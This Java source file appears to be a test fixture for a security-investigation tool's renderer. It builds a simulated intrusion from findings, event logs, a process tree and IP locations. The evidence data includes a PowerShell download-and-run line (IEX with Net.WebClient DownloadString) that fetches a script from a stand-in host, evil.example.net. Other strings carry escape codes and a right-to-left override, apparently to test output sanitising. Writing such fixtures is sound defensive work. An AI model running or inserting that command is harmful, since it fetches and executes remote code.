package dev.spoor.renderer.text;

import dev.spoor.api.View;
import dev.spoor.api.data.Column;
import dev.spoor.api.data.Role;
import dev.spoor.api.data.Schema;
import dev.spoor.api.data.Type;
import dev.spoor.tck.MemoryInputs;
import dev.spoor.tck.Rows;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** A small intrusion, told by hostile evidence. */
final class Story {
    private static final Schema FINDINGS = Schema.of(
            Column.of("time", Role.TIME),
            Column.of("severity", Role.SEVERITY),
            Column.of("title", Role.TITLE),
            Column.of("reason", Role.REASON),
            Column.of("technique", Role.TECHNIQUE),
            Column.of("host", Role.HOST),
            Column.of("count", Role.COUNT),
            Column.of("rows", Role.ROWS),
            Column.of("row_count", Type.LONG),
            Column.of("entities", Type.JSON),
            Column.of("evidence", Type.JSON),
            Column.of("rule", Type.STRING),
            Column.of("analyzer", Type.STRING));

    private static final Schema EVENTS = Schema.of(
            Column.of("ORIGIN", Role.ORIGIN),
            Column.of("STREAM", Role.STREAM),
            Column.of("TIME", Role.TIME),
            Column.of("HOST", Role.HOST),
            Column.of("SUBJECT_ACCOUNT", Role.SUBJECT_ACCOUNT),
            Column.of("IMAGE", Role.IMAGE),
            Column.of("COMMAND_LINE", Role.COMMAND_LINE),
            Column.of("URL", Role.URL));

    private static final Schema TREE = Schema.of(
            Column.of("node", Role.NODE),
            Column.of("parent", Role.PARENT_NODE),
            Column.of("time", Role.TIME),
            Column.of("host", Role.HOST),
            Column.of("pid", Role.PROCESS_ID),
            Column.of("label", Role.LABEL),
            Column.of("commandLine", Role.COMMAND_LINE),
            Column.of("origin", Role.ORIGIN));

    private static final Schema PLACES = Schema.of(
            Column.of("address", Role.ADDRESS),
            Column.of("country", Role.COUNTRY),
            Column.of("city", Role.CITY),
            Column.of("lat", Role.LATITUDE),
            Column.of("lon", Role.LONGITUDE),
            Column.of("count", Role.COUNT),
            Column.of("rows", Role.ROWS));

    private Story() {}

    static MemoryInputs inputs() {
        return new MemoryInputs()
                .table(
                        "Findings",
                        Rows.batch(
                                FINDINGS,
                                Rows.row(
                                        "2022-05-13T08:54:05.21Z",
                                        "CRITICAL",
                                        "Encoded PowerShell runs a download",
                                        "winword.exe started"
                                                + " powershell.exe, whose decoded command fetches http://evil.example.net/a.ps1 and runs it. Office does not do that in the course of its work.",
                                        "T1059.001,T1105",
                                        "WS01",
                                        2L,
                                        "[2,3]",
                                        2L,
                                        "[{\"type\":\"host\",\"value\":\"WS01\"},{\"type\":\"domain\",\"value\":\"evil.example.net\"},{\"type\":\"url\",\"value\":\"HTTPS://evil.example.net/a.ps1?x=1.2\"}]",
                                        "{\"decoded\":\"IEX (New-Object Net.WebClient)\\n  .DownloadString('http://evil.example.net/a.ps1')\\n```\\n# not a heading\\u001b[2J\"}",
                                        "encoded-powershell",
                                        "triage"),
                                Rows.row(
                                        null,
                                        "LOW",
                                        "<b>Odd</b> *name* \u202egpj.exe | [x](http://x.example)",
                                        "A name that hides its end.",
                                        null,
                                        null,
                                        1L,
                                        "[]",
                                        0L,
                                        "[]",
                                        "{}",
                                        "odd-name",
                                        "triage")))
                .table(
                        "Events",
                        Rows.batch(
                                EVENTS,
                                Rows.row(1L, "Security/4624", "2022-05-13T08:00:00Z", "WS01", "bob", null, null, null),
                                Rows.row(
                                        2L,
                                        "Sysmon/1",
                                        "2022-05-13T08:54:05.21Z",
                                        "WS01",
                                        "bob",
                                        "C:\\Office\\WINWORD.EXE",
                                        "\"C:\\Office\\WINWORD.EXE\" invoice.docm",
                                        null),
                                Rows.row(
                                        3L,
                                        "Sysmon/1",
                                        "2022-05-13T08:54:06.0000001Z",
                                        "WS01.corp.example.com",
                                        "bob\u001b[31m",
                                        "C:\\Windows\\powershell.exe",
                                        "powershell -enc " + "SQBFAFgA".repeat(30),
                                        null),
                                Rows.row(
                                        4L,
                                        "proxy",
                                        "2022-05-13T08:54:07Z",
                                        "WS01",
                                        null,
                                        null,
                                        null,
                                        "http://evil.example.net/a.ps1"),
                                Rows.row(
                                        5L,
                                        "proxy",
                                        "2022-05-13T19:00:00Z",
                                        "WS02",
                                        null,
                                        null,
                                        null,
                                        "https://ok.example.com/"),
                                Rows.row(6L, "proxy", null, "WS02", "日本語", null, null, null)))
                .table(
                        "Processes",
                        Rows.batch(
                                TREE,
                                Rows.row("1", null, "2022-05-13T08:00:00Z", "WS01", 600L, "winlogon.exe", null, 10L),
                                Rows.row(
                                        "2",
                                        "1",
                                        "2022-05-13T08:01:00Z",
                                        "WS01",
                                        700L,
                                        "explorer.exe",
                                        "explorer.exe",
                                        11L),
                                Rows.row(
                                        "3",
                                        "2",
                                        "2022-05-13T08:54:05.21Z",
                                        "WS01",
                                        4242L,
                                        "WINWORD.EXE",
                                        "WINWORD.EXE invoice.docm",
                                        2L),
                                Rows.row(
                                        "4",
                                        "3",
                                        "2022-05-13T08:54:06Z",
                                        "WS01",
                                        5000L,
                                        "powershell.exe",
                                        "powershell -enc " + "SQBFAFgA".repeat(30),
                                        3L),
                                Rows.row(
                                        "5",
                                        "2",
                                        "2022-05-13T09:00:00Z",
                                        "WS01",
                                        5100L,
                                        "notepad.exe",
                                        "notepad\r\na.txt",
                                        12L),
                                Rows.row("6", "1", null, "WS01", 5200L, "unknown", null, null),
                                Rows.row("7", null, "2022-05-13T08:00:00Z", "WS02", 1L, "init", null, 13L)))
                .table(
                        "Places",
                        Rows.batch(
                                PLACES,
                                Rows.row("192.0.2.1", "NL", "Amsterdam", 52.37, 4.9, 3L, "[1]"),
                                Rows.row("198.51.100.7", "JP", "東京", 35.68, 139.69, 1200L, "[2]"),
                                Rows.row("10.0.0.1", null, null, null, null, 7L, "[3]")));
    }

    static View view(String kind) {
        return switch (kind) {
            case "report" -> report();
            case "findings" -> View.of("findings", "Findings").inputs("Findings");
            case "timeline" -> View.of("timeline", "Timeline").inputs("Events").option("keep", "Findings");
            case "tree" -> View.of("tree", "Processes").inputs("Processes").option("keep", "Findings");
            case "map" -> View.of("map", "Places").inputs("Places");
            case "bars" ->
                View.of("bars", "Most")
                        .option(
                                "items",
                                List.of(
                                        map("label", "powershell.exe", "value", 1234),
                                        map("label", "cmd.exe\u0007", "value", 500),
                                        map("label", "日本", "value", 0.5)));
            case "facts" ->
                View.of("facts", "Facts")
                        .option("items", List.of(List.of("Zone", "UTC"), List.of("Name\n", "x\u202e")));
            case "table" -> View.of("table", "Events").inputs("Events");
            default -> View.of(kind, "Odd").inputs("Places").option("note", "A kind of another day.");
        };
    }

    private static View report() {
        return View.of("report", "Case 17: WS01")
                .option("created", "2026-01-01T00:00:00Z")
                .option("note", "Nothing was asked of the network.")
                .option(
                        "tiles",
                        List.of(
                                map("label", "Findings", "value", "2", "detail", "1 critical, 1 low"),
                                map("label", "Hosts", "value", "2", "detail", "")))
                .option(
                        "inputs",
                        List.of(map(
                                "name", "logs/a.evtx", "form", "evtx", "bytes", 69632L, "rows", 6L, "sha256", "ab12")))
                .option(
                        "problems",
                        List.of(map(
                                "kind",
                                "BAD_REQUEST",
                                "where",
                                "logs/b.json, line 3",
                                "message",
                                "not JSON: '}' is expected",
                                "count",
                                2L)))
                .option(
                        "provenance",
                        map(
                                "command",
                                "spoor investigate logs -o report.txt",
                                "facts",
                                List.of(List.of("Java", "17")),
                                "plugins",
                                List.of(map("id", "analyzer-triage", "version", "0.1.0"))))
                .child(view("findings"))
                .child(view("timeline"))
                .child(view("tree"))
                .child(view("map"))
                .child(view("bars"));
    }

    /** In the order given, which {@link Map#of} does not keep. */
    private static Map<String, Object> map(Object... pairs) {
        Map<String, Object> map = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            map.put((String) pairs[i], pairs[i + 1]);
        }
        return map;
    }
}
